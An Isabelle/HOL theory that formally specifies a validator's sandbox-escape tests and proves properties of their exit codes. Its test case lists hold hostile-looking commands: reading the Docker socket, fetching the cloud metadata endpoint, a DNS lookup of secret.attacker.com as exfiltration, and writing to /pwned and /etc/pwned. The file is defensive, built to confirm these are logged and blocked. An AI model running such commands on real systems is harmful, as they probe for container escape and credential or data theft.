(* ===== verification/Sandbox_Checks.thy ===== *)
theory Sandbox_Checks
  imports Behaviour Pipeline Replay Weights
begin

text \<open>
  The tools that attack the sandbox on purpose: \<open>scripts/behavior_check.py\<close> (is a forbidden action seen in the
  log of system calls?), \<open>scripts/escape_suite.py\<close> (is it blocked under the admission's own dry run?), and the
  one-shot probe of the miners, \<open>scripts/security_probe.py\<close>.  What Docker prints and the logs hold are arguments.
\<close>

section \<open>Is it seen?\<close>

record seen_case =
  sc_name :: string
  sc_cmd :: string
  sc_want_any :: "string list"

definition SEEN_CASES :: "seen_case list" where
  "SEEN_CASES =
     [\<lparr>sc_name = ''docker-socket'', sc_cmd = ''cat /var/run/docker.sock 2>/dev/null; echo done'',
       sc_want_any = [''docker-socket'']\<rparr>,
      \<lparr>sc_name = ''internet-egress'', sc_cmd = ''wget -T2 http://1.1.1.1 2>/dev/null; echo done'',
       sc_want_any = [''network-socket'', ''network-connect'']\<rparr>,
      \<lparr>sc_name = ''cloud-metadata'', sc_cmd = ''wget -T2 http://169.254.169.254/ 2>/dev/null; echo done'',
       sc_want_any = [''cloud-metadata'', ''network-connect'', ''network-socket'']\<rparr>]"

text \<open>
  \<open>run_case\<close>: the commands it gives, and its verdict from the exit status of \<open>docker run\<close> and the text of the
  log files found.
\<close>

definition seen_calls :: "seen_case \<Rightarrow> int \<Rightarrow> docker_call list" where
  "seen_calls c status =
     (let name = ''secval-bhv-'' @ sc_name c in
      [''rm'', ''-f'', name] #
      [''run'', ''-d'', ''--name'', name, ''--runtime'', ''runsc-monitor'', ''--network'', ''none'', ''--read-only'',
       ''busybox'', ''sh'', ''-c'', sc_cmd c] #
      (if status \<noteq> 0 then []
       else [[''wait'', name], [''inspect'', ''-f'', ''{{.Id}}'', name], [''rm'', ''-f'', name]]))"

definition seen_verdict :: "seen_case \<Rightarrow> int \<Rightarrow> string \<Rightarrow> bool" where
  "seen_verdict c status text \<longleftrightarrow> status = 0 \<and> text \<noteq> [] \<and>
     list_ex (\<lambda>v. vi_kind v \<in> set (sc_want_any c)) (br_violations (analyze text))"

definition behaviour_check_exit :: "bool \<Rightarrow> (int \<times> string) list \<Rightarrow> int" where
  "behaviour_check_exit log_root_exists runs =
     (if \<not> log_root_exists then 2
      else
        let results = map2 (\<lambda>c (status, text). seen_verdict c status text) SEEN_CASES runs;
            failed = length (filter Not results)
        in if failed \<noteq> 0 then 1 else 0)"

section \<open>Is it blocked?\<close>

record escape_case =
  xc_name :: string
  xc_cmd :: string

definition outcome_of_test :: "string \<Rightarrow> string" where
  "outcome_of_test attempt = attempt @ '' && echo RESULT:ESCAPED || echo RESULT:BLOCKED''"

definition ESCAPE_CASES :: "escape_case list" where
  "ESCAPE_CASES =
     [\<lparr>xc_name = ''internet-egress'', xc_cmd = outcome_of_test ''wget -T3 -q -O- http://1.1.1.1 >/dev/null 2>&1''\<rparr>,
      \<lparr>xc_name = ''cloud-metadata'', xc_cmd = outcome_of_test ''wget -T3 -q -O- http://169.254.169.254/ >/dev/null 2>&1''\<rparr>,
      \<lparr>xc_name = ''dns-exfil'', xc_cmd = outcome_of_test ''nslookup secret.attacker.com >/dev/null 2>&1''\<rparr>,
      \<lparr>xc_name = ''docker-socket'', xc_cmd = outcome_of_test ''[ -S /var/run/docker.sock ]''\<rparr>,
      \<lparr>xc_name = ''write-root'', xc_cmd = outcome_of_test ''touch /pwned 2>/dev/null''\<rparr>,
      \<lparr>xc_name = ''write-etc'', xc_cmd = outcome_of_test ''echo x > /etc/pwned 2>/dev/null''\<rparr>]"

definition escape_tag :: "escape_case \<Rightarrow> string" where
  "escape_tag c = ''secval-escape-'' @ xc_name c"

text \<open>\<open>build_image\<close>: the Dockerfile, whose entry point is the JSON of a list of strings.\<close>

definition escape_dockerfile :: "string \<Rightarrow> string" where
  "escape_dockerfile cmd =
     ''FROM busybox'' @ [CHR 0x0A] @ ''ENTRYPOINT '' @ dump_texts [''sh'', ''-c'', cmd] @ [CHR 0x0A]"

fun first_result :: "string list \<Rightarrow> string" where
  "first_result [] = []"
| "first_result (line # rest) =
     (if starts_with (py_strip line) ''RESULT:'' then py_strip line else first_result rest)"

text \<open>\<open>run_case\<close>: the image goes through \<open>check_submission\<close>, and the token is read from the log of its dry run.\<close>

definition escape_token :: "pipeline_env \<Rightarrow> submitted_file \<Rightarrow> string \<Rightarrow> docker_call list \<Rightarrow> failure + string" where
  "escape_token env f tag h = map_sum id
     (\<lambda>v. first_result (splitlines (case ev_log_excerpt (vd_evidence v) of None \<Rightarrow> [] | Some s \<Rightarrow> s)))
     (fst (check_submission env f (''escape:'' @ tag) h))"

text \<open>
  \<open>main\<close>: a case is \<open>None\<close> when building or saving its image fails.  The control is run and printed, and counts
  for nothing.
\<close>

definition escape_suite_exit :: "bool \<Rightarrow> string option \<Rightarrow> string option list \<Rightarrow> int" where
  "escape_suite_exit docker_up control tokens =
     (if \<not> docker_up then 2
      else
        let failed = length (filter (\<lambda>t. t \<noteq> Some ''RESULT:BLOCKED'') tokens)
        in if failed \<noteq> 0 then 1 else 0)"

section \<open>Probing the miners\<close>

definition probe_uids :: "metagraph \<Rightarrow> string \<Rightarrow> nat list option \<Rightarrow> nat list" where
  "probe_uids mg own wanted =
     filter (\<lambda>uid. case wanted of None \<Rightarrow> True | Some us \<Rightarrow> uid \<in> set us)
       (filter (\<lambda>uid. ax_serving (mg_axons mg ! uid) \<and> mg_hotkeys mg ! uid \<noteq> own) [0..<mg_n mg])"

record probe_reply =
  pr_has_agent :: "bool option"
  pr_image_ref :: string

record probe_counts =
  pc_answered :: nat
  pc_offered :: nat
  pc_accepted :: nat

text \<open>\<open>evaluate\<close>: \<open>None\<close> for an evaluation that raised or failed on the validator's side, else whether it accepted.\<close>

definition probe_step ::
  "(nat \<Rightarrow> string \<Rightarrow> bool option) \<Rightarrow> nat \<times> probe_reply \<Rightarrow> probe_counts \<Rightarrow> probe_counts" where
  "probe_step evaluate = (\<lambda>(uid, r) n. case pr_has_agent r of
      None \<Rightarrow> n
    | Some False \<Rightarrow> n\<lparr>pc_answered := pc_answered n + 1\<rparr>
    | Some True \<Rightarrow>
        let n = n\<lparr>pc_answered := pc_answered n + 1\<rparr>; image_ref = py_strip (pr_image_ref r) in
        if image_ref = [] then n
        else
          let n = n\<lparr>pc_offered := pc_offered n + 1\<rparr> in
          (if evaluate uid image_ref = Some True then n\<lparr>pc_accepted := pc_accepted n + 1\<rparr> else n))"

definition security_probe ::
  "(nat \<Rightarrow> string \<Rightarrow> bool option) \<Rightarrow> nat list \<Rightarrow> probe_reply list \<Rightarrow> int \<times> probe_counts" where
  "security_probe evaluate uids replies =
     (let none = \<lparr>pc_answered = 0, pc_offered = 0, pc_accepted = 0\<rparr> in
      if uids = [] then (1, none) else (0, fold (probe_step evaluate) (zip uids replies) none))"

section \<open>Lemmas\<close>

text \<open>Success means that every attempt was seen.\<close>

lemma behaviour_check_passes:
  assumes "length runs = length SEEN_CASES"
  shows "behaviour_check_exit up runs = 0 \<longleftrightarrow>
    up \<and> (\<forall>i < length SEEN_CASES. seen_verdict (SEEN_CASES ! i) (fst (runs ! i)) (snd (runs ! i)))"
proof -
  let ?results = "map2 (\<lambda>c (status, text). seen_verdict c status text) SEEN_CASES runs"
  have "filter Not ?results = [] \<longleftrightarrow> (\<forall>i < length ?results. ?results ! i)"
    unfolding filter_empty_conv all_set_conv_all_nth by simp
  also have "\<dots> \<longleftrightarrow> (\<forall>i < length SEEN_CASES. seen_verdict (SEEN_CASES ! i) (fst (runs ! i)) (snd (runs ! i)))"
    using assms by (simp add: case_prod_beta)
  finally show ?thesis by (auto simp: behaviour_check_exit_def Let_def)
qed

text \<open>A case that is seen left at least one violation of a wanted kind, so the job would report it as well.\<close>

lemma seen_is_reported:
  "seen_verdict c status text \<Longrightarrow> \<exists>v \<in> set (br_violations (analyze text)). vi_kind v \<in> set (sc_want_any c)"
  by (auto simp: seen_verdict_def list_ex_iff)

text \<open>Success means that every attempt printed that it was blocked; the control cannot spoil it.\<close>

lemma escape_suite_passes:
  "escape_suite_exit up control tokens = 0 \<longleftrightarrow> up \<and> set tokens \<subseteq> {Some ''RESULT:BLOCKED''}"
  by (auto simp: escape_suite_exit_def Let_def filter_empty_conv)

lemma first_result_line:
  "first_result lines \<noteq> [] \<Longrightarrow> starts_with (first_result lines) ''RESULT:'' \<and> first_result lines \<in> py_strip ` set lines"
  by (induction lines rule: first_result.induct) (auto split: if_splits)

text \<open>A Dockerfile of the suite has exactly its two lines, whatever the command holds.\<close>

lemma dump_char_printable: "list_all (\<lambda>c. code c \<noteq> 10) (dump_char c)"
proof -
  have "code (hex_lower n) \<noteq> 10" if "n < 16" for n
    using hex_value_lower [OF that] by (auto simp: hex_value_def)
  moreover have "code c div 16 < 16" by (rule code_div_16)
  ultimately show ?thesis by (simp add: dump_char_def)
qed

lemma escape_dockerfile_lines:
  "length (filter (\<lambda>c. code c = 10) (escape_dockerfile cmd)) = 2"
proof -
  have "filter (\<lambda>c. code c = 10) (dump_char c) = []" for c
    using dump_char_printable [of c] by (auto simp: filter_empty_conv list_all_iff)
  then have "filter (\<lambda>c. code c = 10) (concat (map dump_char s)) = []" for s by (induction s) simp_all
  from this [of "''sh''"] this [of "''-c''"] this [of cmd] show ?thesis
    by (simp add: escape_dockerfile_def dump_texts_def dump_text_def)
qed

text \<open>The counts are nested, and nobody but serving strangers is asked.\<close>

lemma probe_counts_nested:
  assumes "security_probe evaluate uids replies = (status, n)"
  shows "pc_accepted n \<le> pc_offered n \<and> pc_offered n \<le> pc_answered n \<and> pc_answered n \<le> length uids"
proof -
  have step: "pc_accepted (fold (probe_step evaluate) ps n) \<le> pc_offered (fold (probe_step evaluate) ps n) \<and>
      pc_offered (fold (probe_step evaluate) ps n) \<le> pc_answered (fold (probe_step evaluate) ps n) \<and>
      pc_answered (fold (probe_step evaluate) ps n) \<le> pc_answered n + length ps"
    if "pc_accepted n \<le> pc_offered n" "pc_offered n \<le> pc_answered n" for ps n
    using that
  proof (induction ps arbitrary: n)
    case (Cons p ps)
    let ?n = "probe_step evaluate p n"
    have "pc_accepted ?n \<le> pc_offered ?n" "pc_offered ?n \<le> pc_answered ?n" "pc_answered ?n \<le> Suc (pc_answered n)"
      using Cons.prems by (auto simp: probe_step_def Let_def split: prod.split option.split bool.split)
    with Cons.IH [of ?n] show ?case by simp
  qed simp
  from assms step [of "\<lparr>pc_answered = 0, pc_offered = 0, pc_accepted = 0\<rparr>" "zip uids replies"] show ?thesis
    by (auto simp: security_probe_def Let_def split: if_splits)
qed

lemma probe_uids_serving:
  "uid \<in> set (probe_uids mg own wanted) \<Longrightarrow> uid < mg_n mg \<and> ax_serving (mg_axons mg ! uid) \<and> mg_hotkeys mg ! uid \<noteq> own"
  by (auto simp: probe_uids_def)

end
